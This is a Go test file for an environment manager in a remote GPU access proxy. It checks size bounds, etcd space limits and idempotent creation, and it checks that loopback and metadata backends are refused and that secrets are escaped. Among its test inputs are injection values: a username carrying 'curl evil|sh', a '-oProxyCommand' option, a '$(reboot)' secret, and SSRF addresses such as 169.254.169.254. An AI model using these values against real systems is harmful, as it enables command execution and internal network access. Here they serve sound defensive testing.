package envs_test

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/remotegpu/sluice/control/envs"
	"github.com/remotegpu/sluice/router"
)

// unsealed stands for a cipher: what is sealed is what it was, with its place before.
func unsealed(c *envs.Config) {
	c.Seal = func(_ context.Context, path string, b []byte) ([]byte, error) { return append([]byte(path), b...), nil }
	c.Open = func(path string, b []byte) ([]byte, error) { return b[len(path):], nil }
}

// asking returns a spec of one service.
func asking(service string, s envs.ServiceSpec) envs.Spec {
	return envs.Spec{ID: "a", Backend: "10.0.3.17", Services: map[string]envs.ServiceSpec{service: s}}
}

// What cannot be is refused with its field, before etcd is asked.
func TestBounds(t *testing.T) {
	r := newRig(t)
	n := r.node(unsealed)
	long := `{"allow":["10.0.0.0/8"` + strings.Repeat(`,"10.0.0.0/8"`, 4000) + `]}`
	far := asking("ssh", envs.ServiceSpec{})
	far.ExpiresAt = time.Date(9999, 12, 31, 23, 59, 59, 0, time.FixedZone("", -23*3600))
	many := envs.Spec{ID: "a", Backend: "10.0.3.17", Services: map[string]envs.ServiceSpec{}}
	for i := range envs.MaxServices {
		name := fmt.Sprint("s", i)
		r.put("pools/"+name, fmt.Sprintf(`{"backend_port":80,"route":{"host":"%s.${env}.x-gpu.com"}}`, name))
		r.settle(n, "pools/"+name)
		many.Services[name] = envs.ServiceSpec{Secrets: map[string]string{"token": strings.Repeat("x", 4000)}}
	}
	before := r.keys("")
	for _, tc := range []struct {
		name string
		spec envs.Spec
		want string
	}{
		{"year", far, "expires_at: lies beyond the year 9999"},
		{"transaction", asking("rdp", envs.ServiceSpec{Span: 28, Mapping: []byte(long)}), "bytes, and a transaction of etcd has room for 1048576"},
		{"record", many, "services: come to 130"},
		{"secrets", asking("ssh", envs.ServiceSpec{Secrets: map[string]string{"a": strings.Repeat("x", 4096)}}), "services.ssh.secrets: have 4097 bytes; at most 4096 are kept"},
		{"user", asking("ssh", envs.ServiceSpec{Username: "x;curl evil|sh #\n"}), `services.ssh.username: "x;curl evil|sh #\n" is not taken for a user's name`},
		{"option", asking("ssh", envs.ServiceSpec{Username: "-oProxyCommand=x"}), "services.ssh.username: "},
		{"variables", asking("web", envs.ServiceSpec{Backend: "${host}"}), "services.web.backend: "},
	} {
		if _, err := n.Create(t.Context(), tc.spec); err == nil || !strings.Contains(err.Error(), tc.want) || envs.Reason(err) != "invalid" {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
		}
	}
	if diff := cmp.Diff(before, r.keys("")); diff != "" {
		t.Errorf("failures left something: %s", diff)
	}
	to := "${sni}"
	if _, err := n.Create(t.Context(), asking("web", envs.ServiceSpec{})); err != nil {
		t.Fatal(err)
	}
	if _, err := n.Patch(t.Context(), "a", envs.Patch{Backend: &to}); err == nil || !strings.Contains(err.Error(), "services.web.backend: ") {
		t.Errorf("moved to %s: %v", to, err)
	}
}

// Environments take so much of etcd and no more, whoever makes them.
func TestSpace(t *testing.T) {
	r := newRig(t)
	n := r.node(func(c *envs.Config) { c.Space = 3000 })
	made, full := 0, new(envs.FullError)
	for {
		_, err := n.Create(t.Context(), spec(fmt.Sprint("env", made), "web"))
		if errors.As(err, &full) && envs.Reason(err) == "full" {
			break
		}
		if err != nil || made > 20 {
			t.Fatal(made, err)
		}
		made++
	}
	size := func() (sum int) {
		for _, folder := range []string{"envs/", "routes/", "ports/"} {
			for key, value := range r.keys(folder) {
				sum += len(key) + len(value)
			}
		}
		return sum
	}
	if got := size(); got != full.Taken || got+full.More <= full.Space || got > 3000 {
		t.Errorf("%d environments take %d bytes; the error says %+v", made, got, full)
	}
	// What makes room, or takes none, goes on.
	if _, err := n.Delete(t.Context(), "env0", 0); err != nil {
		t.Fatal(err)
	}
	if _, err := n.Create(t.Context(), spec("env0", "web")); err != nil {
		t.Error(err)
	}
	to := "10.0.3.18"
	if _, err := n.Patch(t.Context(), "env1", envs.Patch{Backend: &to}); err != nil {
		t.Error(err)
	}
	r.del("routes/env.env0.web")
	r.put("envs/env1", "not JSON")
	r.put("ports/tcp/20000", `{"backend":"10.0.0.1:22","env":"x"}`)
	r.put("ports/tcp/20001", `{"backend":"10.0.0.1:22","env":"x"}`)
	r.del("ports/tcp/20001")
	r.settle(n, "routes/env.env0.web", "envs/env1", "ports/tcp/20000", "ports/tcp/20001")
	// One that followed all of it counts as one that sees it for the first time.
	var told [2]*envs.FullError
	for i, reg := range []*envs.Registry{n.reg, r.node().reg} {
		m := envs.New(envs.Config{Registry: reg, Space: 1, Ports: router.Ports{{First: 20000, Last: 32767}}})
		if _, err := m.Create(t.Context(), spec("a", "web")); !errors.As(err, &told[i]) {
			t.Fatal(err)
		}
	}
	if told[0].Taken == 0 || *told[0] != *told[1] {
		t.Errorf("%+v and %+v", told[0], told[1])
	}
}

// The same again is what there is already; anything else is not.
func TestTheSameAgain(t *testing.T) {
	r := newRig(t)
	r.put("pools/any", `{"backend_port":8000,"route":{"host":"${inner}--env-${env}.remotegpu.com"}}`)
	n := r.node(unsealed)
	r.settle(n, "pools/any")
	first := envs.ServiceSpec{Backend: ":2222", Username: "bob", Mapping: []byte(`{"allow": ["10.0.0.0/8"], "idle_timeout": "10m"}`), Secrets: map[string]string{"password": "x"}}
	e, err := n.Create(t.Context(), asking("ssh", first))
	if err != nil {
		t.Fatal(err)
	}
	with := func(change func(*envs.ServiceSpec)) envs.ServiceSpec {
		s := first
		change(&s)
		return s
	}
	for name, again := range map[string]envs.ServiceSpec{
		"as it was":        first,
		"the same backend": with(func(s *envs.ServiceSpec) { s.Backend = "10.0.3.17:2222" }),
		"the same mapping": with(func(s *envs.ServiceSpec) { s.Mapping = []byte(`{"idle_timeout":"10m","allow":["10.0.0.0/8"]}`) }),
	} {
		if got, err := n.Create(t.Context(), asking("ssh", again)); err != nil || got.Rev != e.Rev {
			t.Errorf("%s: %+v, %v", name, got, err)
		}
	}
	for want, other := range map[string]envs.ServiceSpec{
		`with ssh at "10.0.3.17:2222"`:  with(func(s *envs.ServiceSpec) { s.Backend = "" }),
		`with ssh for the user "bob"`:   with(func(s *envs.ServiceSpec) { s.Username = "eve" }),
		"with ssh with another mapping": with(func(s *envs.ServiceSpec) { s.Mapping = nil }),
		"with ssh with other secrets":   with(func(s *envs.ServiceSpec) { s.Secrets = map[string]string{"password": "y"} }),
		"with ssh at other ports":       with(func(s *envs.ServiceSpec) { s.Port = 20001 }),
	} {
		if _, err := n.Create(t.Context(), asking("ssh", other)); !errors.As(err, new(*envs.ExistsError)) || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %s", err, want)
		}
	}
}

// Whoever is bound to some environments leads no port to the nodes themselves.
func TestGuardedBackends(t *testing.T) {
	r := newRig(t)
	r.put("pools/local", `{"ports":"32000-32009","backend_port":22,"backend_host":"127.0.0.1"}`)
	n := r.node(func(c *envs.Config) {
		c.Deny = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8"), netip.MustParsePrefix("::1/128"), netip.MustParsePrefix("169.254.0.0/16")}
	})
	guarded := envs.Guard(t.Context())
	for _, backend := range []string{"127.0.0.1", "127.9.9.9:2379", "localhost", "x.localhost.", "::1", "[::1]:2379", "169.254.169.254:80", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "[64:ff9b::a9fe:a9fe]:80"} {
		if _, err := n.Create(guarded, asking("ssh", envs.ServiceSpec{Backend: backend})); err == nil || !strings.Contains(err.Error(), "services.ssh.backend: ") {
			t.Errorf("%s: %v", backend, err)
		}
	}
	auth := []byte(`{"requests":{"forward_auth":{"backend":"127.0.0.1:2379","path":"/"}}}`)
	if _, err := n.Create(guarded, asking("jupyter", envs.ServiceSpec{Mapping: auth})); err == nil || !strings.Contains(err.Error(), "services.jupyter.mapping.requests.forward_auth.backend: 127.0.0.1 lies in 127.0.0.0/8") {
		t.Errorf("asked of whom: %v", err)
	}
	own := asking("ssh", envs.ServiceSpec{})
	own.Backend = "192.0.2.1:22"
	if _, err := n.Create(t.Context(), own); err == nil || !strings.HasPrefix(err.Error(), "backend: ") || !strings.Contains(err.Error(), "has a port") {
		t.Errorf("a port of all services: %v", err)
	}
	own.Backend = "127.0.0.1"
	if _, err := n.Create(guarded, own); err == nil {
		t.Error("the environment's own backend is not looked at")
	}
	if _, err := n.Create(guarded, asking("ssh", envs.ServiceSpec{})); err != nil {
		t.Error(err)
	}
	if _, err := n.Patch(guarded, "a", envs.Patch{Backend: &own.Backend}); err == nil || !strings.Contains(err.Error(), "services.ssh.backend: 127.0.0.1 lies in") {
		t.Errorf("moved: %v", err)
	}
	if _, err := n.Patch(guarded, "a", envs.Patch{Services: map[string]*envs.ServiceSpec{"ssh": {Backend: ":2379"}, "jupyter": {Backend: "127.0.0.1"}}}); err == nil {
		t.Error("an added service is not looked at")
	}
	// What others may, and what the pool says.
	if _, err := n.Patch(t.Context(), "a", envs.Patch{Backend: &own.Backend}); err != nil {
		t.Error(err)
	}
	if _, err := n.Create(guarded, envs.Spec{ID: "b", Services: map[string]envs.ServiceSpec{"local": {}}}); err != nil {
		t.Error(err)
	}
	// What the pool leaves to the environment, it does not say.
	r.put("pools/named", `{"ports":"32010-32019","backend_port":22,"backend_host":"${env}"}`)
	r.settle(n, "pools/named")
	named := func(id string) envs.Spec {
		return envs.Spec{ID: id, Services: map[string]envs.ServiceSpec{"named": {}}}
	}
	if _, err := n.Create(guarded, named("localhost")); err == nil || !strings.Contains(err.Error(), "services.named.backend: localhost lies in") {
		t.Errorf("an id that is a host: %v", err)
	}
	if _, err := n.Create(guarded, named("worker")); err != nil {
		t.Error(err)
	}
	// A name has two addresses.
	one := r.node(func(c *envs.Config) { c.Deny = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")} })
	if _, err := one.Create(guarded, asking("jupyter", envs.ServiceSpec{Backend: "localhost"})); err == nil {
		t.Error("the name of this machine is let through by its other address")
	}
}

// Secrets stand in URLs as URLs have it, and in no command that would run them.
func TestSecretsInTexts(t *testing.T) {
	r := newRig(t)
	r.put("pools/lab", `{"backend_port":80,"route":{"host":"${env}.lab.x-gpu.com"},"access":{"url":"https://${env}.x-gpu.com/?token=${secret.token}&x=1","command":"connect ${env} ${secret.token}"}}`)
	n := r.node(unsealed)
	r.settle(n, "pools/lab")
	for i, tc := range []struct{ secret, url, command string }{
		{"hunter2", "hunter2", "hunter2"},
		{"a&b=c d#+%", "a%26b%3Dc%20d%23%2B%25", ""},
		{"$(reboot)", "%24%28reboot%29", ""},
		{"-x", "-x", ""},
	} {
		s := asking("lab", envs.ServiceSpec{Secrets: map[string]string{"token": tc.secret}})
		s.ID = fmt.Sprint("e", i)
		if _, err := n.Create(t.Context(), s); err != nil {
			t.Fatal(err)
		}
		all, err := n.Access(t.Context(), s.ID, true)
		if err != nil {
			t.Fatal(err)
		}
		want := envs.Access{URL: "https://" + s.ID + ".x-gpu.com/?token=" + tc.url + "&x=1", Secrets: map[string]string{"token": tc.secret}}
		if tc.command != "" {
			want.Command = "connect " + s.ID + " " + tc.command
		}
		if diff := cmp.Diff(want, all["lab"]); diff != "" {
			t.Errorf("%q: %s", tc.secret, diff)
		}
	}
}
